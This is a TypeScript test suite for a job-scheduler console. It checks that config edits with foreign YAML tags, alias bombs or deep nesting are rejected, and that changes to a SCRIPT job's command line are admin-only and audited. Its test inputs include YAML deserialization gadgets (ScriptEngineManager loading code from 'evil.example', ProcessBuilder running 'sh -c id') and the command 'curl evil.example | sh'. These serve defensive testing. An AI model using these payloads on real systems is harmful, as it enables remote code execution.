/**
 * Issue 12 §1, §2, §7 through the console's routes on a real ZooKeeper: a config edit carrying a foreign
 * YAML tag (or a second document, an alias bomb, deep nesting) is a 400 that writes nothing; a SCRIPT
 * job's command line is an admin's change only, and the audit says so; a shard count of 10^9 written by
 * another ZooKeeper client leaves the job list and job page answering 200, the job shown as invalid config.
 */
import { beforeEach, describe, expect, it } from 'vitest';
import { basicFor } from './auth-support';
import * as jobsRoute from '@/app/api/registries/[rid]/jobs/route';
import * as jobRoute from '@/app/api/registries/[rid]/jobs/[job]/route';
import * as configRoute from '@/app/api/registries/[rid]/jobs/[job]/config/route';
import * as serversRoute from '@/app/api/registries/[rid]/servers/route';
import { MemoryAuditSink, setAuditSink } from '@/lib/console';
import { explainJob, parseConfig, type JobDetail, type JobSummary } from '@/lib/jobtree';
import { callRoute, errorOf, fixtureNodes, setupTree, type Env, type TreeNode } from './console-operations-support';
import { waitFor } from './zk-context';

const asAdmin = { anonymous: true, headers: basicFor('admin') };

let audit: MemoryAuditSink;
beforeEach(() => {
  audit = new MemoryAuditSink();
  setAuditSink(audit);
});

async function putConfig(env: Env, job: string, body: unknown, options = {}) {
  return callRoute(configRoute.PUT, { rid: env.rid, job }, body, 'PUT', options);
}

describe('config edits refuse what would run code or exhaust a reader (400 INVALID_CONFIG, nothing written)', () => {
  const V3_JOB = 'settlement';
  const cases: { name: string; edit: (raw: string) => string; message: RegExp }[] = [
    {
      name: 'a class tag in props',
      edit: (r) => r.replace('props:\n  region: eu\n', 'props:\n  region: eu\n  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]\n'),
      message: /^invalid configRaw: configRaw\.props: YAML tag !!javax\.script\.ScriptEngineManager at props\.x is not allowed/,
    },
    {
      name: 'a class tag as a type key',
      edit: (r) => r.replace('jobErrorHandlerType: LOG', 'jobErrorHandlerType: !!java.lang.ProcessBuilder [[sh, -c, id]]'),
      message: /configRaw\.jobErrorHandlerType: YAML tag !!java\.lang\.ProcessBuilder at jobErrorHandlerType is not allowed/,
    },
    { name: 'a local tag', edit: (r) => r.replace("jobParameter: ''", 'jobParameter: !foo x'), message: /YAML tag !foo at jobParameter is not allowed/ },
    {
      name: 'a verbatim tag',
      edit: (r) => r.replace("jobParameter: ''", 'jobParameter: !<tag:yaml.org,2002:java.lang.ProcessBuilder> [id]'),
      message: /YAML tag !!java\.lang\.ProcessBuilder at jobParameter is not allowed/,
    },
    { name: 'a second document', edit: (r) => `${r}---\njobName: settlement\n`, message: /^invalid configRaw: a 3\.x config must be one YAML document; this text has 2/ },
    {
      name: 'an alias bomb',
      edit: (r) => {
        const lines = ['  a: &a [x,x,x,x,x,x,x,x,x]'];
        for (let i = 1; i < 9; i++) lines.push(`  ${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
        return r.replace('props:\n  region: eu\n', `props:\n  region: eu\n${lines.join('\n')}\n`);
      },
      message: /YAML aliases expand beyond the limit of 100/,
    },
    { name: 'YAML nested 10,000 deep', edit: (r) => r.replace("jobParameter: ''", `jobParameter: ${'['.repeat(10_000)}${']'.repeat(10_000)}`), message: /^invalid configRaw: the config nests maps and lists deeper than 64 levels$/ },
    { name: 'YAML block lists nested 50,000 deep', edit: (r) => r.replace("jobParameter: ''", `jobParameter:\n${'- '.repeat(50_000)}x`), message: /deeper than 64 levels/ },
  ];
  for (const c of cases) {
    it(`configRaw with ${c.name}`, async () => {
      const env = await setupTree(fixtureNodes('v3-yaml-disabled-server.json'));
      const raw = (await env.value(`/${V3_JOB}/config`)) ?? '';
      const edited = c.edit(raw);
      expect(edited).not.toBe(raw);
      const before = await env.dump();
      const answer = await putConfig(env, V3_JOB, { configRaw: edited, version: 0 });
      expect(answer.status, JSON.stringify(answer.json).slice(0, 500)).toBe(400);
      expect(errorOf(answer).code).toBe('INVALID_CONFIG');
      expect(errorOf(answer).message).toMatch(c.message);
      expect(await env.dump()).toEqual(before);
      expect(audit.entries()).toEqual([]);
    });
  }

  it('the fixture’s own ElasticJob tracing tag and !!str values are accepted and written', async () => {
    const env = await setupTree(fixtureNodes('v3-yaml-disabled-server.json'));
    const raw = (await env.value(`/${V3_JOB}/config`)) ?? '';
    const edited = raw.replace('props:\n  region: eu\n', 'label: !!str tagged\nprops:\n  region: !!str eu\n');
    const answer = await putConfig(env, V3_JOB, { configRaw: edited, version: 0 });
    expect(answer.status, JSON.stringify(answer.json)).toBe(200);
    expect(await env.value(`/${V3_JOB}/config`)).toBe(edited);
  });

  it('a 2.x raw edit nested 10,000 deep is a 400 too', async () => {
    const env = await setupTree(fixtureNodes('real-2.1.5-steady.json'));
    const raw = (await env.value('/avgJob/config')) ?? '';
    const before = await env.dump();
    const answer = await putConfig(env, 'avgJob', { configRaw: raw.replace('"jobParameter":"avg-param"', `"jobParameter":${'['.repeat(10_000)}${']'.repeat(10_000)}`), version: 0 });
    expect(answer.status).toBe(400);
    expect(errorOf(answer)).toEqual({ code: 'INVALID_CONFIG', message: 'invalid configRaw: the config nests maps and lists deeper than 64 levels' });
    expect(await env.dump()).toEqual(before);
  });

  it('an object edit whose value is a string that looks like a tag stays a string', async () => {
    const env = await setupTree(fixtureNodes('v3-yaml-disabled-server.json'));
    const raw = (await env.value(`/${V3_JOB}/config`)) ?? '';
    const { values } = parseConfig(raw);
    const answer = await putConfig(env, V3_JOB, { config: { ...values, jobParameter: '!!java.lang.ProcessBuilder [id]' }, version: 0 });
    expect(answer.status, JSON.stringify(answer.json)).toBe(200);
    expect(parseConfig((await env.value(`/${V3_JOB}/config`)) ?? '').values.jobParameter).toBe('!!java.lang.ProcessBuilder [id]');
  });
});

/** A 3.x SCRIPT job and a 2.x SCRIPT job, as ElasticJob writes them. */
function scriptJobs(): TreeNode[] {
  const v3 = [
    'cron: 0/5 * * * * ?',
    'disabled: false',
    'failover: false',
    'jobName: sh3',
    "jobParameter: ''",
    'maxTimeDiffSeconds: -1',
    'misfire: true',
    'monitorExecution: true',
    'overwrite: false',
    'props:',
    '  script.command.line: /opt/jobs/report.sh',
    'reconcileIntervalMinutes: 10',
    "shardingItemParameters: ''",
    'shardingTotalCount: 2',
    'staticSharding: false',
    '',
  ].join('\n');
  const v2 = JSON.stringify({
    jobName: 'sh2',
    jobClass: '',
    jobType: 'SCRIPT',
    cron: '0/5 * * * * ?',
    shardingTotalCount: 2,
    shardingItemParameters: '',
    jobParameter: '',
    failover: false,
    misfire: true,
    description: '',
    jobProperties: { job_exception_handler: 'com.dangdang.ddframe.job.executor.handler.impl.DefaultJobExceptionHandler' },
    scriptCommandLine: '/opt/jobs/report.sh',
    monitorExecution: true,
    maxTimeDiffSeconds: -1,
    monitorPort: -1,
    reconcileIntervalMinutes: 10,
    disabled: false,
    overwrite: false,
  });
  return [
    { path: '/sh3', value: 'SCRIPT', ephemeral: false },
    { path: '/sh3/config', value: v3, ephemeral: false },
    { path: '/sh2', value: '', ephemeral: false },
    { path: '/sh2/config', value: v2, ephemeral: false },
  ];
}

describe('a SCRIPT job’s command line: admin only', () => {
  const variants = [
    {
      name: '3.x props script.command.line',
      job: 'sh3',
      field: "props['script.command.line']",
      change: (v: Record<string, unknown>) => ({ ...v, props: { 'script.command.line': 'curl evil.example | sh' } }),
      add: (raw: string) => raw.replace('  script.command.line: /opt/jobs/report.sh\n', '  script.command.line: /opt/jobs/report.sh\n  other: x\n'),
      remove: (raw: string) => raw.replace(/^props:\n {2}script\.command\.line: .*\n/m, ''),
    },
    {
      name: '2.x scriptCommandLine',
      job: 'sh2',
      field: 'scriptCommandLine',
      change: (v: Record<string, unknown>) => ({ ...v, scriptCommandLine: 'curl evil.example | sh' }),
      add: (raw: string) => raw.replace('"description":""', '"description":"x"'),
      remove: (raw: string) => raw.replace(/,"scriptCommandLine":"[^"]*"/, ''),
    },
  ];
  for (const v of variants) {
    it(`${v.name}: an operator gets 403 ADMIN_REQUIRED (object and raw edits, removal too), nothing written`, async () => {
      const env = await setupTree(scriptJobs());
      const raw = (await env.value(`/${v.job}/config`)) ?? '';
      const { values } = parseConfig(raw);
      const before = await env.dump();
      for (const body of [
        { config: v.change(values), version: 0 },
        { configRaw: raw.replace('/opt/jobs/report.sh', 'curl evil.example | sh'), version: 0 },
        { configRaw: v.remove(raw), version: 0 },
      ]) {
        const answer = await putConfig(env, v.job, body);
        expect(answer.status, JSON.stringify(answer.json)).toBe(403);
        expect(errorOf(answer)).toEqual({ code: 'ADMIN_REQUIRED', message: `only an admin may change a SCRIPT job's command line (${v.field}); nothing was written` });
        expect(answer.json.field).toBe(v.field);
      }
      expect(await env.dump()).toEqual(before);
      expect(audit.entries()).toEqual([]);
      // Other keys of the same job stay an operator's to change.
      const other = await putConfig(env, v.job, { configRaw: v.add(raw), version: 0 });
      expect(other.status, JSON.stringify(other.json)).toBe(200);
      expect(audit.entries()[0]?.remarks).toBeUndefined();
    });

    it(`${v.name}: an admin's change is written and the audit entry says so, old → new`, async () => {
      const env = await setupTree(scriptJobs());
      const raw = (await env.value(`/${v.job}/config`)) ?? '';
      const { values } = parseConfig(raw);
      const answer = await putConfig(env, v.job, { config: v.change(values), version: 0 }, asAdmin);
      expect(answer.status, JSON.stringify(answer.json)).toBe(200);
      expect(parseConfig((await env.value(`/${v.job}/config`)) ?? '').values).toEqual(v.change(values));
      const [entry] = audit.entries();
      expect(entry).toMatchObject({ operation: 'config.update', user: 'test-admin', job: v.job });
      expect(entry?.remarks).toEqual([`SCRIPT command line (${v.field}) changed by admin: "/opt/jobs/report.sh" → "curl evil.example | sh"`]);
      // Removal is a change too.
      const after = (await env.value(`/${v.job}/config`)) ?? '';
      const removed = await putConfig(env, v.job, { configRaw: v.remove(after), version: 1 }, asAdmin);
      expect(removed.status, JSON.stringify(removed.json)).toBe(200);
      expect(audit.entries()[0]?.remarks).toEqual([`SCRIPT command line (${v.field}) changed by admin: "curl evil.example | sh" → (none)`]);
    });
  }

  it('adding a command line to a job without one is admin only too', async () => {
    const env = await setupTree(fixtureNodes('v3-yaml-disabled-server.json'));
    const raw = (await env.value('/settlement/config')) ?? '';
    const edited = raw.replace('props:\n  region: eu\n', 'props:\n  region: eu\n  script.command.line: id\n');
    const before = await env.dump();
    const answer = await putConfig(env, 'settlement', { configRaw: edited, version: 0 });
    expect(answer.status).toBe(403);
    expect(errorOf(answer).code).toBe('ADMIN_REQUIRED');
    expect(await env.dump()).toEqual(before);
    const admin = await putConfig(env, 'settlement', { configRaw: edited, version: 0 }, asAdmin);
    expect(admin.status).toBe(200);
    expect(audit.entries()[0]?.remarks).toEqual([`SCRIPT command line (props['script.command.line']) changed by admin: (none) → "id"`]);
  });
});

describe('a shard count of 10^9 written by another ZooKeeper client', () => {
  it('leaves the job list, job page and servers view answering 200, the job shown as invalid config and why', async () => {
    const env = await setupTree(fixtureNodes('real-3.0.5-steady.json'));
    const raw = (await env.value('/avgJob/config')) ?? '';
    const huge = raw.replace(/^shardingTotalCount: \d+$/m, 'shardingTotalCount: 1000000000');
    expect(huge).not.toBe(raw);
    await env.writer.setData(`${env.root}/avgJob/config`, huge);
    await waitFor(async () => {
      const detail = await callRoute(jobRoute.GET, { rid: env.rid, job: 'avgJob' }, undefined, 'GET');
      return detail.status === 200 && (detail.json as unknown as JobDetail).configVersion === 1;
    }, 10_000, 'the console mirror to see the new config');

    const list = await callRoute(jobsRoute.GET, { rid: env.rid }, undefined, 'GET');
    expect(list.status).toBe(200);
    const text = 'config invalid: shardingTotalCount: must be at most 10000 (1000000000 is above the limit)';
    const entry = (list.json.jobs as JobSummary[]).find((j) => j.name === 'avgJob');
    expect(entry).toMatchObject({ finerStatus: 'CONFIG_INVALID', shardingTotalCount: 1_000_000_000, error: text });
    // Its neighbours are unaffected.
    expect((list.json.jobs as JobSummary[]).filter((j) => j.name !== 'avgJob').every((j) => j.finerStatus !== 'CONFIG_INVALID')).toBe(true);

    const page = await callRoute(jobRoute.GET, { rid: env.rid, job: 'avgJob' }, undefined, 'GET');
    expect(page.status).toBe(200);
    const detail = page.json as unknown as JobDetail;
    expect(detail.finerStatus).toBe('CONFIG_INVALID');
    expect(detail.configIssues).toEqual([{ field: 'shardingTotalCount', message: 'must be at most 10000 (1000000000 is above the limit)' }]);
    expect(detail.warnings).toContainEqual({ code: 'CONFIG_INVALID', message: text });
    // Only the items the tree holds, not a billion.
    expect(detail.items.length).toBeLessThanOrEqual(10);
    expect(explainJob(detail).summary.startsWith(`${text}. `)).toBe(true);

    expect((await callRoute(serversRoute.GET, { rid: env.rid }, undefined, 'GET')).status).toBe(200);

    // The operator can repair it through the console.
    const fixed = await putConfig(env, 'avgJob', { configRaw: raw, version: 1 });
    expect(fixed.status, JSON.stringify(fixed.json)).toBe(200);
  });

  it('an edit to such a count is refused by the same check (400 naming the field)', async () => {
    const env = await setupTree(fixtureNodes('real-3.0.5-steady.json'));
    const raw = (await env.value('/avgJob/config')) ?? '';
    const before = await env.dump();
    const answer = await putConfig(env, 'avgJob', { configRaw: raw.replace(/^shardingTotalCount: \d+$/m, 'shardingTotalCount: 1000000000'), version: 0 });
    expect(answer.status).toBe(400);
    expect(errorOf(answer)).toEqual({
      code: 'INVALID_CONFIG',
      message: 'invalid config: config.shardingTotalCount: must be at most 10000 (1000000000 is above the limit)',
    });
    expect(await env.dump()).toEqual(before);
  });
});
